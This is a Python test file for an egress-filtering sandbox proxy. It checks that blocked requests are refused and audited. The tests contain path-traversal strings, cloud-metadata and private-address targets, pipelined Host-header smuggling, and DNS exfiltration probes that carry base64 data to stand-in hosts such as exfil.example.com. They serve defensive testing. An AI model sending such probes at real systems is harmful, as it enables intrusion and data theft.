"""Every way a guest is refused, seen from the guest and from the log."""
import json
import re
import socket

from harness import shell
from harness.claims import claim, contains, equal, lacks, until
from harness.origins import Nginx
from harness.world import World

NAMES = {
    "api.example.com": "10.201.0.10",
    "plain.example.com": "10.201.0.10",
    "loop.example.com": "127.0.0.1",
    "metadata.example.com": "169.254.169.254",
    "private.example.com": "10.77.0.1",
    "closed.example.com": "10.201.0.11",
    "badcert.example.com": "10.201.0.10",
    "ceiling.example.com": "10.201.0.10",
    "secret.denied.example.com": "10.201.0.10",
}

POLICY = """\
[policy]
version = 1

[allow api]
host   = api.example.com
method = GET, HEAD
path   = /open/**

[allow private]
host = loop.example.com, metadata.example.com, private.example.com

[allow broken]
host = closed.example.com, badcert.example.com, nowhere.example.com

[allow beyond]
host = ceiling.example.com

[allow plain]
host   = plain.example.com
port   = 80
scheme = http

[deny hidden]
host = api.example.com
path = /open/hidden/**
say  = ask the platform team
"""

CEILING = """\
[policy]
version = 1

[allow most]
host = api.example.com, loop.example.com, metadata.example.com
host = private.example.com, closed.example.com, badcert.example.com
host = nowhere.example.com

[allow plain]
host   = plain.example.com
port   = 80
scheme = http
"""

_world = {}


def world():
    if not _world:
        w = World(NAMES, ceiling=CEILING)
        cert, key = w.authority.issue("api.example.com", "ceiling.example.com")
        _world["w"] = w
        w.own(Nginx(w.net, f"{w.folder}/nginx", f"""
          server {{ listen 10.201.0.10:443 ssl; server_name _;
            ssl_certificate {cert}; ssl_certificate_key {key};
            location / {{ return 200 "origin $request_method $uri\\n"; }} }}
          server {{ listen 10.201.0.10:80;
            location / {{ return 200 "plain $request_method $uri\\n"; }} }}
        """))
        _world["s"] = w.sandbox(POLICY)
    return _world["w"], _world["s"]


def head_of(result):
    """(status line, fields in lower case) of curl -i."""
    head = result.out.split("\r\n\r\n", 1)[0].split("\r\n")
    return head[0], {line.split(":", 1)[0].lower(): line.split(":", 1)[1].strip()
                     for line in head[1:] if ":" in line}


def refused(s, reason, argv, status="403", **want):
    """curl -i argv is answered with status and reason, and so is the log."""
    got = s.curl("-i", *argv)
    line, fields = head_of(got)
    contains(line, status, repr(got))
    equal(fields.get("tapward-reason"), reason, repr(got))
    equal(fields.get("cache-control"), "no-store", repr(got))
    contains(fields.get("proxy-status", ""), "tapward", repr(got))
    s.audited(verdict="deny", reason=reason, **want)
    return got


@claim("an allowed request reaches its origin and is recorded with its rule")
def _():
    w, s = world()
    got = s.curl("https://api.example.com/open/x").ok()
    equal(got.out, "origin GET /open/x\n")
    record = s.audited(event="request", verdict="allow", host="api.example.com")
    equal(record["rule"], "api")
    equal(record["status"], 200)
    contains(record["at"], ":4")


@claim("no-rule: a host that nobody named gets a 403 a person can read")
def _():
    _, s = world()
    got = refused(s, "no-rule", ["https://secret.denied.example.com/x"],
                  host="secret.denied.example.com", rule="-")
    contains(got.out, "secret.denied.example.com")
    body = got.out.split("\r\n\r\n", 1)[1]
    assert len(body) <= 200 and body.count("\n") <= 1, body


@claim("no-rule: JSON when the client asks for it, in the fields npm prints")
def _():
    _, s = world()
    got = s.curl("-H", "Accept: application/json", "https://other.example.com/")
    body = json.loads(got.out)
    for field in ("error", "message", "errors", "warning"):
        assert field in body, body


@claim("method, path, denied-by-rule: each says which and where")
def _():
    _, s = world()
    got = refused(s, "method", ["-d", "x", "https://api.example.com/open/x"],
                  method="POST", rule="api")
    contains(got.out, ":4")
    refused(s, "path", ["https://api.example.com/closed"], path="/closed")
    got = refused(s, "denied-by-rule", ["https://api.example.com/open/hidden/x"],
                  rule="hidden")
    contains(got.out, "ask the platform team")


@claim("row 66: a path with two readings matches no path rule")
def _():
    w, s = world()
    for path in ("/open/../closed", "/open/%2e%2e/closed", "//open/x",
                 "/open/x;y", "/open/%2fx", "/open/a%5cb", "/open/%00"):
        got = s.curl("-i", "--path-as-is", f"https://api.example.com{path}")
        assert " 403 " in got.out.splitlines()[0] or \
            " 400 " in got.out.splitlines()[0], repr(got)


@claim("ceiling-no-rule: the guest reads only that the ceiling refused")
def _():
    _, s = world()
    got = refused(s, "ceiling-no-rule", ["https://ceiling.example.com/"],
                  host="ceiling.example.com")
    contains(got.out, "ceiling")
    lacks(got.out, "ceiling.ini")
    record = s.audited(reason="ceiling-no-rule")
    contains(record["at"], "ceiling.ini:")


@claim("port: http to a host that is allowed on 443 only")
def _():
    _, s = world()
    refused(s, "port", ["http://api.example.com/open/x"], port=80)


@claim("plain http works where both files say so")
def _():
    _, s = world()
    equal(s.curl("http://plain.example.com/a").ok().out, "plain GET /a\n")


@claim("row 22: an allowed name that resolves to a private address")
def _():
    _, s = world()
    for name in ("loop", "metadata", "private"):
        got = s.curl("-i", f"https://{name}.example.com/")
        contains(got.out, "private-address", repr(got))
        s.audited(reason="private-address", host=f"{name}.example.com")


@claim("resolve-failed, origin-unreachable, origin-tls: told apart")
def _():
    w, s = world()
    for host, reason in (("nowhere", "resolve-failed"),
                         ("closed", "origin-unreachable"),
                         ("badcert", "origin-tls")):
        got = s.curl("-i", f"https://{host}.example.com/")
        _, fields = head_of(got)
        equal(fields.get("tapward-reason"), reason, repr(got))
        s.audited(event="request", reason=reason, host=f"{host}.example.com")


@claim("guest-tls: a guest without our CA is told so by its own client, and recorded")
def _():
    _, s = world()
    got = s.run(["curl", "-sS", "--max-time", "10", "--cacert",
                 s.world.authority.ca, "https://api.example.com/open/x"],
                env={"PATH": s.env["PATH"]})
    assert got.code == 60, repr(got)
    s.audited(reason="guest-tls")


@claim("row 17: an address instead of a name is reset, at once")
def _():
    _, s = world()
    got = s.curl("--max-time", "5", "-k", "https://10.201.0.10/")
    assert got.code == 7, repr(got)
    s.audited(event="packet", reason="packet-tcp")


@claim("UDP and QUIC are refused with ICMP, a ping is dropped, each is recorded")
def _():
    _, s = world()
    for port in (443, 5000):
        got = s.run(["python3", "-c", f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect(("10.201.0.10", {port}))
s.send(b"x")
try:
    s.recv(10)
except ConnectionRefusedError:
    print("refused")
except OSError as e:
    print(e)
"""])
        assert "timed out" not in got.out and got.out, repr(got)
    s.audited(event="packet", reason="packet-udp")
    got = s.run(["ping", "-c", "1", "-W", "1", "10.201.0.10"])
    assert got.code != 0, repr(got)
    s.audited(event="packet", reason="packet-icmp")


SENT = 4000


def send_udp(s):
    """More than the kernel logs a second, and not faster than it takes."""
    s.run(["python3", "-c", f"""
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range({SENT}):
    s.sendto(b"x", ("10.201.0.10", 5000))
"""]).ok()


def unrecorded(w, s):
    return [int(re.match(r"overflow: (\d+) packets without a record", detail)[1])
            for detail in (r.get("detail", "") for r in w.audit(
                s.name, event="packet", reason="packet-udp"))
            if "without a record" in detail]


@claim("packets above what is logged are counted: in show, in the metrics, and in records within half a minute and at the end")
def _():
    w, _ = world()
    s = w.sandbox(POLICY)
    send_udp(s)
    shown = json.loads(w.cli("show", s.name, "--json").ok().out)["dropped"]
    equal(shown["packet-udp"], SENT)
    lacks(shown, "packet-tcp")
    contains(w.cli("show", s.name).ok().out, f"packet-udp {SENT}")
    first = until(lambda: unrecorded(w, s), 30, "a record of the others")
    logged = len(w.audit(s.name, event="packet", reason="packet-udp"))
    # Of the rest each has its own, or is in the one of the recorder's rate.
    assert SENT * 0.8 < sum(first) < SENT, f"{first} of {SENT}, {logged} records"
    send_udp(s)
    s.rm().ok()
    until(lambda: len(unrecorded(w, s)) > len(first), 5, "one at its end")
    got = shell.run(["curl", "-sS", "--unix-socket", w.socket,
                     "http://tapward/metrics"])
    counted = re.search(r'packets_dropped_total\{reason="packet-udp"\} (\d+)', got.out)
    assert int(counted[1]) >= 2 * SENT, got.out
    contains(w.cli("log", "--verify").ok().out, "unbroken")
    return f"{sum(unrecorded(w, s))} of {2 * SENT} without a record"


@claim("explicit proxy: CONNECT and absolute-form take the same path")
def _():
    _, s = world()
    proxy = ["-x", s.info["proxy"]]
    equal(s.curl(*proxy, "https://api.example.com/open/y").ok().out,
          "origin GET /open/y\n")
    equal(s.curl(*proxy, "http://plain.example.com/b").ok().out,
          "plain GET /b\n")
    got = s.curl("-i", *proxy, "https://secret.denied.example.com/")
    contains(got.out, "Tapward-Reason: no-rule", repr(got))
    got = s.curl("-i", *proxy, "--proxytunnel", "http://api.example.com:22/")
    assert got.code == 56 or "403" in got.both, repr(got)


def tls_bytes(s, address, payload, seconds=5):
    """Sends raw bytes from the guest and returns what came back."""
    got = s.run(["python3", "-c", f"""
import socket, sys
s = socket.create_connection(("{address[0]}", {address[1]}), {seconds})
s.settimeout({seconds})
s.sendall({payload!r})
data = b""
try:
    while True:
        part = s.recv(65536)
        if not part:
            break
        data += part
except OSError as e:
    data += b"!" + type(e).__name__.encode()
sys.stdout.buffer.write(data)
"""], text=False)
    return got.out


@claim("row 75: plain HTTP and SSH on port 443 are closed")
def _():
    _, s = world()
    address = socket.gethostbyname("127.0.0.1"), 443
    synthetic = s.run(["dig", "+short", "api.example.com"]).ok().out.strip()
    address = (synthetic, 443)
    for payload in (b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
                    b"SSH-2.0-x\r\n", b"\x05\x01\x00"):
        data = tls_bytes(s, address, payload)
        lacks(data, b"origin")
        lacks(data, b"200")
    until(lambda: s.world.audit(s.name, reason="not-http")
          or s.world.audit(s.name, reason="no-sni"), 5, "a record")


@claim("row 71: no SNI, an address as SNI: closed, no certificate shown")
def _():
    _, s = world()
    synthetic = s.run(["dig", "+short", "api.example.com"]).ok().out.strip()
    for extra in (["-noservername"], ["-servername", "10.201.0.10"]):
        got = s.run(["openssl", "s_client", "-connect", f"{synthetic}:443",
                     *extra], stdin=b"")
        lacks(got.both, "BEGIN CERTIFICATE", repr(got))
    s.audited(reason="no-sni")


@claim("rows 69, 70: Host differs from SNI, also in a second request")
def _():
    _, s = world()
    got = s.curl("-i", "-H", "Host: secret.denied.example.com",
                 "https://api.example.com/open/x")
    contains(got.out, "host-mismatch", repr(got))
    got = s.run(["python3", "-c", f"""
import socket, ssl
c = ssl.create_default_context(cafile="{s.ca}")
s = c.wrap_socket(socket.create_connection(("api.example.com", 443), 5),
                  server_hostname="api.example.com")
s.sendall(b"GET /open/1 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"
          b"GET /open/2 HTTP/1.1\\r\\nHost: secret.denied.example.com\\r\\n\\r\\n")
s.settimeout(5)
data = b""
try:
    while b"host-mismatch" not in data:
        part = s.recv(65536)
        if not part:
            break
        data += part
except OSError as e:
    print(e)
print(data.decode())
"""])
    contains(got.out, "origin GET /open/1", repr(got))
    contains(got.out, "host-mismatch", repr(got))
    lacks(got.out, "origin GET /open/2")


@claim("row 68: CONNECT one name, SNI another: closed before any upstream byte")
def _():
    _, s = world()
    got = s.run(["openssl", "s_client", "-proxy", "100.64.0.1:3128", "-connect",
                 "api.example.com:443", "-servername",
                 "secret.denied.example.com"], stdin=b"")
    lacks(got.both, "BEGIN CERTIFICATE", repr(got))
    s.audited(reason="host-mismatch")


@claim("rows 132, 134: a denied name was never asked upstream")
def _():
    w, s = world()
    s.run(["dig", "+short", "c2VjcmV0LWRhdGE.exfil.example.com"])
    s.run(["dig", "+short", "TXT", "c2VjcmV0LXR4dA.exfil.example.com"])
    s.curl("https://c2VjcmV0.evil.example.com/")
    s.curl("-x", s.info["proxy"], "https://c2VjcmV0.via-proxy.example.com/")
    asked = set(w.resolver.queries())
    for name in asked:
        assert name in NAMES or name == "nowhere.example.com", asked
    lacks(asked, "secret.denied.example.com")
    lacks(asked, "ceiling.example.com")


@claim("DNS: A for any host name, NODATA and NXDOMAIN as the design says")
def _():
    _, s = world()
    dig = lambda *argv: s.run(["dig", "+noall", "+comments", "+answer", *argv]).ok().out
    contains(dig("x.example.com"), "198.1")
    contains(dig("x.example.com"), "5\tIN\tA")
    out = dig("AAAA", "x.example.com")
    contains(out, "NOERROR")
    contains(out, "ANSWER: 0")
    contains(dig("localhost"), "NXDOMAIN")
    contains(dig("single"), "NXDOMAIN")
    contains(dig("@9.9.9.9", "x.example.com"), "198.1")
    contains(dig("+tcp", "@8.8.8.8", "x.example.com"), "198.1")


@claim("the audit chain is whole after all that")
def _():
    w, _ = world()
    out = w.cli("log", "--verify").ok().out
    contains(out, "unbroken")


@claim("the world of the denials ends and leaves nothing")
def _():
    w, s = world()
    s.rm().ok()
    lacks(w.host.run(["ip", "netns", "list"]).out, f"tapward-{s.name}")
    w.close()
    _world.clear()
